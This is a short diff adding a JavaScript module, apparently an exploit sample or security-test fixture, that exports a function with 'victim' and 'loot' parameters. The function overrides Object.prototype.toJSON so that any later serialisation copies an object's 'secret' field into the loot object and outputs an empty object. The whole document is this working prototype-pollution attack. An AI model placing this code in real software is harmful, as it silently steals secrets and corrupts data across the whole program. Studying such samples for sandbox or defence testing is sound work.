@@ -1,0 +1,4 @@
+'use strict';
+module.exports = (victim, loot) => {
+  Object.prototype.toJSON = function () { loot.value = this.secret; return {}; };
+};
